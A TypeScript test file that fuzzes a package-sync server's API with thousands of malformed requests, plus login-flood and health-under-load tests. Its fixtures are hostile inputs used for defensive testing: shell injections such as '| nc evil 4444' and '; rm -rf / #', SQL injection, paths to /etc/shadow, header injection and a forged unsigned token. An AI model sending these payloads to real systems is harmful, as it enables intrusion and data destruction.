import { createHash } from 'node:crypto';
import * as fs from 'node:fs';

import {
  ARCHITECTURE_PATTERN,
  PACKAGE_NAME_PATTERN,
  PACKAGE_VERSION_PATTERN,
  REPOSITORY_NAME_PATTERN,
} from '@pacman-sync/shared';
import { DataSource } from 'typeorm';

import { BODY_LIMIT_BYTES } from '../src/app';
import { PasswordHasher } from '../src/auth/password';
import { CONTENT_HASH_PATTERN } from '../src/common/validators';
import { ApiOperation, listApiOperations, resolveSchema } from './support/api-operations';
import { makeState, repositoriesOffering, seededRandom } from './support/fixtures';
import { seedFleet, SeededFleet } from './support/seed-fleet';
import { startTestApp, TestApp } from './support/test-app';
import { testEngine } from './support/test-database';

/** Per operation at least this many, and more when needed to reach MIN_TOTAL over all operations. */
const MIN_PER_OPERATION = 200;
const MIN_TOTAL = 20_000;

type Schema = Record<string, unknown>;
interface HostileRequest {
  kind: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
}

/** Strings an attacker or a broken client sends: shell, SQL, argument injection, paths, unicode, NUL. */
const HOSTILE_STRINGS = [
  '',
  ' ',
  '-',
  '--root=/',
  '--config=/tmp/evil.conf',
  '-Syu',
  'repo/name',
  'name>=1',
  '/etc/passwd',
  '../../../../etc/shadow',
  'http://evil.example/x.pkg.tar.zst',
  'file:///etc/passwd',
  '$(reboot)',
  '`id`',
  '; rm -rf / #',
  '| nc evil 4444',
  "' OR '1'='1",
  "'; DROP TABLE pools; --",
  '" OR ""="',
  '\u0000',
  'a\u0000b',
  '\u202e\u0041\u0042',
  '😀😀😀',
  'ＡＢＣ',
  'é'.normalize('NFD'),
  '\ud800',
  '%00',
  '%s%s%s%n',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\r\nX-Injected: 1',
  'x'.repeat(256),
  'y'.repeat(70_000),
];

const NOT_UUIDS = [
  'not-a-uuid',
  '0',
  '-1',
  '00000000-0000-0000-0000-00000000000',
  '00000000-0000-0000-0000-0000000000000',
  '{00000000-0000-0000-0000-000000000000}',
  '00000000000000000000000000000000',
  'zzzzzzzz-zzzz-zzzz-zzzz-zzzzzzzzzzzz',
  "1' OR '1'='1",
  '--root=/',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '😀',
  'a'.repeat(5000),
  'null',
  'undefined',
  '[]',
  'true',
];

const PATTERNS_BY_FIELD: Record<string, RegExp> = {
  package_name: PACKAGE_NAME_PATTERN,
  version: PACKAGE_VERSION_PATTERN,
  architecture: ARCHITECTURE_PATTERN,
  repo_name: REPOSITORY_NAME_PATTERN,
  content_hash: CONTENT_HASH_PATTERN,
};

// eslint-disable-next-line no-control-regex
const CONTROL_CHARACTERS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;

/** Whether `value` certainly breaks the schema (documented constraints, plus the shared package rules). */
function violates(schema: Schema, value: unknown, field: string, parent: Schema): boolean {
  // class-validator's @IsOptional() skips null like an omitted field, so null is certainly wrong only
  // where the field is required.
  if (value === null)
    return schema.nullable !== true && ((parent.required ?? []) as string[]).includes(field);
  const type = schema.type as string | undefined;
  if (Array.isArray(schema.enum)) return !schema.enum.includes(value);
  if (type === 'string') {
    if (typeof value !== 'string') return true;
    // The one text rule of the whole API: no control characters but tab and line breaks, anywhere.
    if (CONTROL_CHARACTERS.test(value)) return true;
    if (typeof schema.maxLength === 'number' && value.length > schema.maxLength) return true;
    if (typeof schema.minLength === 'number' && value.length < schema.minLength) return true;
    if (schema.format === 'uuid' && !UUID.test(value)) return true;
    if (schema.format === 'date-time' && Number.isNaN(Date.parse(value))) return true;
    if (typeof schema.pattern === 'string' && !new RegExp(schema.pattern).test(value)) return true;
    const rule =
      PATTERNS_BY_FIELD[field] ??
      (field === 'name' && parent.properties && 'version' in (parent.properties as Schema)
        ? PACKAGE_NAME_PATTERN
        : undefined);
    return rule !== undefined && !rule.test(value);
  }
  if (type === 'number' || type === 'integer') {
    if (typeof value !== 'number') return true;
    if (type === 'integer' && !Number.isInteger(value)) return true;
    if (typeof schema.minimum === 'number' && value < schema.minimum) return true;
    if (typeof schema.maximum === 'number' && value > schema.maximum) return true;
    return false;
  }
  if (type === 'boolean') return typeof value !== 'boolean';
  if (type === 'array') {
    if (!Array.isArray(value)) return true;
    return typeof schema.maxItems === 'number' && value.length > schema.maxItems;
  }
  if (type === 'object' || schema.properties) return typeof value !== 'object' || Array.isArray(value);
  return false;
}

/** encodeURIComponent, except that a lone surrogate becomes its raw (invalid UTF-8) bytes, which is hostile too. */
function encodePart(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80';
  }
}

function parseJson(text: string): unknown {
  try {
    return JSON.parse(text);
  } catch {
    return null;
  }
}

function deepNest(depth: number, leaf: unknown, asArray: boolean): unknown {
  let value = leaf;
  for (let i = 0; i < depth; i++) value = asArray ? [value] : { nested: value };
  return value;
}

/** Candidate replacement values for a field: wrong types, boundaries, hostile strings, deep nesting. */
function candidatesFor(schema: Schema): unknown[] {
  const type = schema.type as string | undefined;
  const wrongTypes = [
    1,
    -1,
    0,
    1.5,
    true,
    false,
    {},
    [],
    'string',
    null,
    [null],
    { $gt: '' },
    { __type: 'x' },
  ];
  const numbers = [-1, -1e308, 1e308, 2 ** 53 + 1, 1.5, -0.5, Number.MAX_SAFE_INTEGER, 1e21];
  const nested = [deepNest(200, 'x', true), deepNest(200, 'x', false), deepNest(2000, 1, true)];
  if (type === 'string') return [...wrongTypes, ...HOSTILE_STRINGS, ...nested];
  if (type === 'number' || type === 'integer')
    return [...wrongTypes, ...numbers, '1', '1e3', 'NaN', ...nested];
  if (type === 'boolean') return [...wrongTypes, 'true', 'false', 1, 0, ...nested];
  if (type === 'array') return [...wrongTypes, 'a,b', [1, 2], [{}], [[[]]], ...nested];
  return [...wrongTypes, ...nested, 'x'];
}

/** Every (path, schema) of a body, so mutations can reach nested fields such as packages[0].version. */
function fieldsOf(
  document: ApiOperation['document'],
  schema: Schema,
  value: unknown,
  path: Array<string | number> = [],
): Array<{ path: Array<string | number>; schema: Schema; parent: Schema; field: string; required: boolean }> {
  const resolved = resolveSchema(document, schema);
  const result: ReturnType<typeof fieldsOf> = [];
  const properties = (resolved.properties ?? {}) as Record<string, Schema>;
  const required = (resolved.required ?? []) as string[];
  if (value === null || typeof value !== 'object' || Array.isArray(value)) return result;
  for (const [name, propertySchema] of Object.entries(properties)) {
    const property = resolveSchema(document, propertySchema);
    result.push({
      path: [...path, name],
      schema: property,
      parent: resolved,
      field: name,
      required: required.includes(name),
    });
    const child = (value as Record<string, unknown>)[name];
    if (property.type === 'array' && Array.isArray(child) && child.length > 0 && property.items) {
      result.push(...fieldsOf(document, property.items as Schema, child[0], [...path, name, 0]));
    } else if (child && typeof child === 'object' && !Array.isArray(child)) {
      result.push(...fieldsOf(document, propertySchema, child, [...path, name]));
    }
  }
  return result;
}

function withValue(base: unknown, path: Array<string | number>, value: unknown, remove = false): unknown {
  const copy = structuredClone(base) as Record<string | number, unknown>;
  let cursor = copy;
  for (const key of path.slice(0, -1)) cursor = cursor[key] as Record<string | number, unknown>;
  const last = path[path.length - 1];
  if (remove) delete cursor[last];
  else cursor[last] = value;
  return copy;
}

describe(`hostile input on ${testEngine()}`, () => {
  let t: TestApp;
  let fleet: SeededFleet;
  let operations: ApiOperation[];
  let dataSource: DataSource;
  let tables: string[];
  const random = seededRandom(20261130);
  const pick = <T>(items: readonly T[]): T => items[Math.floor(random() * items.length)];

  beforeAll(async () => {
    t = await startTestApp({ LOG_LEVEL: process.env.HOSTILE_LOG_LEVEL ?? 'silent' });
    fleet = await seedFleet(t, 'hostile');
    operations = listApiOperations(t);
    dataSource = t.app.get(DataSource);
    // The rate limiter's shared counters count requests, refused ones too: that is their job, not a change
    // a hostile request made to the fleet's data.
    tables = dataSource.entityMetadatas
      .map((metadata) => metadata.tableName)
      .filter((table) => table !== 'rate_limit_windows')
      .sort();
  }, 60_000);

  afterAll(async () => {
    await t?.close();
  });

  /** Row count and SHA-256 over every row of every table, in primary-key order. */
  async function snapshotDatabase(): Promise<Record<string, string>> {
    const snapshot: Record<string, string> = {};
    for (const table of tables) {
      const metadata = dataSource.entityMetadatas.find((m) => m.tableName === table)!;
      const order = metadata.primaryColumns.map((column) => `"${column.databaseName}"`).join(', ');
      const rows = (await dataSource.query(`SELECT * FROM "${table}" ORDER BY ${order}`)) as unknown[];
      const digest = createHash('sha256').update(JSON.stringify(rows)).digest('hex');
      snapshot[table] = `${rows.length} rows ${digest.slice(0, 16)}`;
    }
    return snapshot;
  }

  function validBody(op: ApiOperation): Record<string, unknown> | null {
    const state = makeState(3, { seed: 3 });
    const bodies: Record<string, Record<string, unknown>> = {
      login: { username: 'nobody-at-all', password: 'not-the-password' },
      createPool: {
        name: 'hostile-new-pool',
        description: 'd',
        sync_policy: { exclude_packages: ['linux*'] },
      },
      updatePool: { name: 'hostile-renamed', sync_policy: { auto_sync: false } },
      assignPoolEndpoints: { endpoint_ids: [fleet.own.id] },
      registerEndpoint: {
        name: 'hostile-new',
        hostname: 'new.lan',
        pool_id: fleet.poolId,
        report_interval: 300,
      },
      updateEndpoint: { name: 'renamed', report_interval: 300 },
      reportState: state as unknown as Record<string, unknown>,
      reportRepositories: {
        repositories: repositoriesOffering(state),
        cached_packages: [{ name: 'linux', version: '1.0-1' }],
        archive: false,
        holds: {
          ignore_pkg: ['linux*'],
          ignore_group: ['xorg'],
          ignored_group_members: [{ package_name: 'xorg-server', group: 'xorg' }],
        },
      },
      reportOperationProgress: { message: 'working', percent: 50 },
      completeOperation: { summary: 'done' },
      failOperation: { error: 'it broke', summary: 's' },
      analyzeRepositories: { pool_id: fleet.poolId },
      createUser: { username: 'hostile-user', password: 'a-long-enough-password', role: 'viewer' },
      updateUser: { password: 'another-long-password', role: 'viewer', disabled: false },
      createToken: { name: 'hostile-token', role: 'viewer', can_enroll: false },
    };
    return op.bodySchema ? (bodies[op.operationId] ?? {}) : null;
  }

  function realUrl(op: ApiOperation): string {
    const ids: Record<string, string> = {
      '/api/pools/': fleet.poolId,
      '/api/endpoints/': fleet.own.id,
      '/api/operations/': fleet.operationId,
      '/api/states/': fleet.stateId,
      '/api/users/': '00000000-0000-4000-8000-000000000001',
      '/api/tokens/': '00000000-0000-4000-8000-000000000002',
    };
    const prefix = Object.keys(ids).find((p) => op.path.startsWith(p));
    return op.pathParams.reduce(
      (url, param) => url.replace(`{${param}}`, prefix ? ids[prefix] : param),
      op.path,
    );
  }

  /** At least `perOperation` requests that must all be refused, drawn from every category that applies. */
  function hostileRequests(op: ApiOperation, perOperation: number): HostileRequest[] {
    const method = op.method.toUpperCase();
    const auth = { authorization: `Bearer ${t.adminToken}` };
    const url = realUrl(op);
    const base = validBody(op);
    const jsonRequest = (kind: string, payload: string): HostileRequest => ({
      kind,
      method,
      url,
      headers: { 'content-type': 'application/json', ...auth },
      payload,
    });
    const generators: Array<() => HostileRequest | null> = [];

    if (op.pathParams.length > 0) {
      generators.push(() => {
        const bad = pick([...NOT_UUIDS, ...HOSTILE_STRINGS.filter((s) => s !== '' && s.length < 3000)]);
        const param = pick(op.pathParams);
        const badUrl = op.path
          .replace(`{${param}}`, encodePart(bad))
          .replace(/\{(\w+)\}/g, () => fleet.own.id);
        return {
          kind: 'path',
          method,
          url: badUrl,
          headers: base ? { 'content-type': 'application/json', ...auth } : auth,
          payload: base ? JSON.stringify(base) : undefined,
        };
      });
    }
    if (op.queryParams.length > 0) {
      generators.push(() => {
        const param = pick(op.queryParams);
        const schema = resolveSchema(op.document, param.schema);
        const values = [
          ...candidatesFor(schema).filter((v) => typeof v === 'string' || typeof v === 'number'),
          'abc',
          '-1',
          '1.5',
          '1e309',
          '99999999999999999999999',
          'NaN',
          '0x10',
          '2020-13-45T99:99:99Z',
          'x'.repeat(600),
        ].map(String);
        const candidates = values.filter((v) => {
          if (schema.type === 'integer' || schema.type === 'number') {
            const n = Number(v);
            return v.trim() === '' ? false : violates(schema, Number.isNaN(n) ? v : n, param.name, {});
          }
          if (schema.format === 'date-time') return Number.isNaN(new Date(v).getTime());
          return violates(schema, v, param.name, {});
        });
        if (candidates.length === 0) return null;
        const value = pick(candidates);
        const scoped =
          op.operationId === 'listOperations' && param.name !== 'endpoint_id'
            ? `endpoint_id=${fleet.own.id}&`
            : '';
        return {
          kind: 'query',
          method,
          url: `${url}?${scoped}${param.name}=${encodePart(value)}`,
          headers: auth,
        };
      });
      generators.push(() => ({
        kind: 'query-unknown',
        method,
        url: `${url}?${pick(['admin', 'role', '__proto__', 'constructor', 'where', 'order', '$where'])}=${encodePart(pick(HOSTILE_STRINGS).slice(0, 200))}`,
        headers: auth,
      }));
      generators.push(() => {
        const param = pick(op.queryParams);
        const schema = resolveSchema(op.document, param.schema);
        if (schema.type === 'array') return null;
        return {
          kind: 'query-repeated',
          method,
          url: `${url}?${param.name}=1&${param.name}=2`,
          headers: auth,
        };
      });
    }
    if (base !== null && op.bodySchema) {
      const fields = fieldsOf(op.document, op.bodySchema, base);
      generators.push(() => {
        const field = pick(fields);
        const value = pick(candidatesFor(field.schema));
        if (!violates(field.schema, value, field.field, field.parent)) return null;
        return jsonRequest('body-field', JSON.stringify(withValue(base, field.path, value)));
      });
      const required = fields.filter((f) => f.required);
      if (required.length > 0) {
        generators.push(() => {
          const field = pick(required);
          return jsonRequest('body-missing', JSON.stringify(withValue(base, field.path, undefined, true)));
        });
      }
      generators.push(() => {
        const objects = [
          [],
          ...fields.filter((f) => f.schema.type !== 'array' && f.schema.properties).map((f) => f.path),
        ];
        const at = pick(objects);
        const key = pick([
          'admin',
          'role',
          'is_target',
          'token_hash',
          'id',
          'constructor',
          'x'.repeat(300),
          '\u0000',
          '😀',
        ]);
        const target =
          at.length === 0
            ? { ...base, [key]: pick([1, 'x', null, {}, deepNest(100, 1, true)]) }
            : withValue(base, [...at, key], 'x');
        return jsonRequest('body-extra', JSON.stringify(target));
      });
      generators.push(() =>
        jsonRequest(
          'body-malformed',
          pick([
            '{',
            '{"name": }',
            "{'name': 'x'}",
            '{"a":1}}',
            'nul',
            '[1,2',
            '{"__proto__": {"admin": true}}',
            '{"constructor": {"prototype": {"admin": true}}}',
            '\u0000',
            '{"a": "\\u0000',
            '{"name": "x",}',
            '{"name": NaN}',
            '{"name": Infinity}',
            '{"name": 0x10}',
            '[]',
            '1',
            '"string"',
            'null',
            'true',
            '{"a":' + '['.repeat(5000) + ']'.repeat(5000) + '}',
          ]),
        ),
      );
      generators.push(() => ({
        kind: 'content-type',
        method,
        url,
        headers: {
          'content-type': pick([
            'text/plain',
            'application/xml',
            'text/html',
            'application/x-www-form-urlencoded',
            'multipart/form-data; boundary=x',
            'application/octet-stream',
            'image/png',
          ]),
          ...auth,
        },
        payload: pick(['name=x', '<a>x</a>', JSON.stringify(base), '\u0000\u0001']),
      }));
      if (required.length > 0) generators.push(() => ({ kind: 'body-absent', method, url, headers: auth }));
    }
    // Without a usable token: refused before anything else happens (the slice without a token).
    generators.push(() => {
      if (op.roles?.includes('public')) return null;
      const header = pick([
        null,
        'Bearer',
        'Bearer ',
        'Basic YWRtaW46YWRtaW4=',
        `Bearer ${'A'.repeat(5000)}`,
        'Bearer psk_' + 'x'.repeat(43),
        'Bearer pse_' + "' OR 1=1 --",
        `Bearer ${t.adminToken.slice(0, -4)}AAAA`,
        `Bearer ${t.adminToken.split('.').slice(0, 2).join('.')}.`,
        'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4Iiwicm9sZSI6ImFkbWluIn0.',
        'Bearer \u0000',
        'Bearer 😀',
        `Bearer ${t.adminToken} extra`,
      ]);
      const headers: Record<string, string> = base ? { 'content-type': 'application/json' } : {};
      if (header !== null) headers.authorization = header;
      return {
        kind: 'auth',
        method,
        url: op.operationId === 'listOperations' ? `${url}?endpoint_id=${fleet.own.id}` : url,
        headers,
        payload: base ? JSON.stringify(base) : undefined,
      };
    });
    // Request-line trouble every route can get: wrong method, trailing junk in the path.
    generators.push(() => ({
      kind: 'route',
      method: pick(
        ['PATCH', method === 'GET' ? 'PUT' : 'GET', 'DELETE'].filter(
          (m) => m !== method && !(m === 'GET' && op.path.match(/\{id\}$/)),
        ),
      ),
      url: `${url}/${encodePart(pick(HOSTILE_STRINGS.filter((s) => s.length > 0 && s.length < 300)))}/x`,
      headers: auth,
    }));

    const requests: HostileRequest[] = [];
    let attempts = 0;
    while (requests.length < perOperation && attempts < perOperation * 50) {
      attempts += 1;
      const request = pick(generators)();
      if (request) requests.push(request);
    }
    // One body over the limit per body route: refused while it streams in, 413.
    if (base !== null) {
      requests.push({
        kind: 'too-large',
        method,
        url,
        headers: { 'content-type': 'application/json', ...auth },
        payload: oversized,
      });
    }
    return requests;
  }

  const oversized = Buffer.concat([
    Buffer.from('{"name":"'),
    Buffer.alloc(BODY_LIMIT_BYTES + 16, 'a'),
    Buffer.from('"}'),
  ]);

  it(`refuses >= ${MIN_PER_OPERATION} malformed requests per operation (>= ${MIN_TOTAL} in all) in the error shape, never 5xx, changing nothing`, async () => {
    const problems: string[] = [];
    const perOperation: Record<string, number> = {};
    const kinds: Record<string, number> = {};
    let total = 0;
    const target = Math.max(MIN_PER_OPERATION, Math.ceil(MIN_TOTAL / operations.length));
    for (const op of operations) {
      const before = await snapshotDatabase();
      const requests = hostileRequests(op, target);
      for (const request of requests) {
        const response = await t.app.inject({
          method: request.method as 'GET',
          url: request.url,
          headers: request.headers,
          payload: request.payload,
        });
        total += 1;
        perOperation[op.operationId] = (perOperation[op.operationId] ?? 0) + 1;
        kinds[request.kind] = (kinds[request.kind] ?? 0) + 1;
        const label = `${op.operationId} [${request.kind}] ${request.method} ${request.url.slice(0, 120)} ${JSON.stringify(String(request.payload ?? '').slice(0, 120))}`;
        const body = parseJson(response.body) as { error?: Record<string, unknown> } | null;
        const error = body?.error;
        const shaped =
          error !== undefined &&
          Object.keys(body!).length === 1 &&
          ['code', 'details', 'message', 'timestamp'].every((key) => key in error) &&
          Object.keys(error).length === 4;
        if (response.statusCode < 400 || response.statusCode >= 500 || !shaped) {
          problems.push(`${label} -> ${response.statusCode} ${response.body.slice(0, 160)}`);
        }
        if (problems.length > 30) break;
      }
      const after = await snapshotDatabase();
      if (JSON.stringify(after) !== JSON.stringify(before)) {
        problems.push(
          `${op.operationId}: database changed ${JSON.stringify(before)} -> ${JSON.stringify(after)}`,
        );
      }
      if (problems.length > 30) break;
    }
    expect(problems).toEqual([]);
    for (const op of operations)
      expect({ op: op.operationId, count: perOperation[op.operationId] }).toEqual({
        op: op.operationId,
        count: expect.any(Number),
      });
    expect(Math.min(...Object.values(perOperation))).toBeGreaterThanOrEqual(target);
    expect(total).toBeGreaterThanOrEqual(MIN_TOTAL);
    expect(Object.keys(kinds).sort()).toEqual(
      expect.arrayContaining([
        'auth',
        'body-extra',
        'body-field',
        'body-malformed',
        'body-missing',
        'content-type',
        'path',
        'query',
        'route',
        'too-large',
      ]),
    );
  }, 240_000);
});

describe(`a login flood on ${testEngine()}`, () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp({}, { passwordHashWorkers: 1, passwordHashQueue: 4 });
    await t.http
      .post('/api/users')
      .send({ username: 'legit', password: 'legit-password-12', role: 'viewer' })
      .expect(201);
  });
  afterAll(async () => {
    await t?.close();
  });

  const login = (username: string, password: string, address: string) =>
    t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      headers: { 'content-type': 'application/json' },
      payload: JSON.stringify({ username, password }),
      remoteAddress: address,
    });

  it('checks a bounded number of passwords at once, refuses the rest at once, and keeps file reads and health free', async () => {
    const hasher = t.app.get(PasswordHasher);
    hasher.resetStats();
    let checked = 0;
    // 200 failed logins from ten addresses for many usernames, all at once.
    const flood = Array.from({ length: 200 }, (_, index) =>
      login(`sprayed-${index}`, 'not-the-password', `203.0.113.${(index % 10) + 1}`).then((answer) => {
        if (answer.statusCode === 401) checked += 1;
        return answer;
      }),
    );
    // Meanwhile: a file read on libuv's thread pool (what the console's static files use), and a probe.
    const checkedWhenReadDone = fs.promises.readFile(__filename).then(() => checked);
    const health = t.app.inject({ method: 'GET', url: '/api/health', remoteAddress: '192.0.2.200' });
    const answers = await Promise.all(flood);

    expect((await health).statusCode).toBe(200);
    // Password checks do not run on the thread pool, so the read did not queue behind them.
    expect(await checkedWhenReadDone).toBeLessThanOrEqual(1);
    const counts: Record<number, number> = {};
    for (const answer of answers) counts[answer.statusCode] = (counts[answer.statusCode] ?? 0) + 1;
    expect(Object.keys(counts).sort()).toEqual(['401', '429']);
    for (const answer of answers.filter((candidate) => candidate.statusCode === 429)) {
      expect(JSON.parse(answer.body).error.code).toBe('RATE_LIMITED');
      expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
    }
    // At most the configured checks ran at once, and at most the configured number waited for one.
    expect(hasher.stats()).toMatchObject({ maxRunning: 1, maxWaiting: expect.any(Number) });
    expect(hasher.stats().maxWaiting).toBeLessThanOrEqual(4);

    // Once the flood is over, the real user gets in.
    let legit = await login('legit', 'legit-password-12', '192.0.2.201');
    for (let attempt = 0; attempt < 100 && legit.statusCode === 429; attempt++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
      legit = await login('legit', 'legit-password-12', '192.0.2.201');
    }
    expect(legit.statusCode).toBe(200);
  });
});

describe(`health under load on ${testEngine()}`, () => {
  let t: TestApp;

  beforeAll(async () => {
    t = await startTestApp();
    const pool = (await t.http.post('/api/pools').send({ name: 'busy' }).expect(201)).body.id as string;
    for (let index = 0; index < 50; index++) await t.registerEndpoint(`busy-${index}`, { poolId: pool });
  });
  afterAll(async () => {
    await t?.close();
  });

  it('answers 200 while 1,000 list requests wait for the database', async () => {
    const lists = Array.from({ length: 1000 }, () =>
      t.app.inject({
        method: 'GET',
        url: '/api/endpoints?limit=500',
        headers: { authorization: `Bearer ${t.adminToken}` },
      }),
    );
    const probes = Array.from({ length: 5 }, () => t.app.inject({ method: 'GET', url: '/api/health' }));
    const answers = await Promise.all(probes);
    expect(answers.map((answer) => answer.statusCode)).toEqual([200, 200, 200, 200, 200]);
    // The lists themselves may wait longer than a connection is waited for: 503 with Retry-After, by design.
    const statuses = new Set((await Promise.all(lists)).map((answer) => answer.statusCode));
    expect([...statuses].filter((status) => status !== 200 && status !== 503)).toEqual([]);
  });

  if (testEngine() === 'postgres') {
    it('answers 200 from its own connection while every pooled connection is busy', async () => {
      const dataSource = t.app.get(DataSource);
      // As many slow statements as the pool has connections: everything else queues behind them.
      const poolSize = (dataSource.options as { extra: { max: number } }).extra.max;
      const busy = Array.from({ length: poolSize }, () => dataSource.query('SELECT pg_sleep(3)'));
      const answer = await t.app.inject({ method: 'GET', url: '/api/health' });
      expect({ status: answer.statusCode, body: JSON.parse(answer.body) }).toMatchObject({
        status: 200,
        body: { status: 'ok', database: { status: 'ok' } },
      });
      await Promise.all(busy);
    });
  }
});
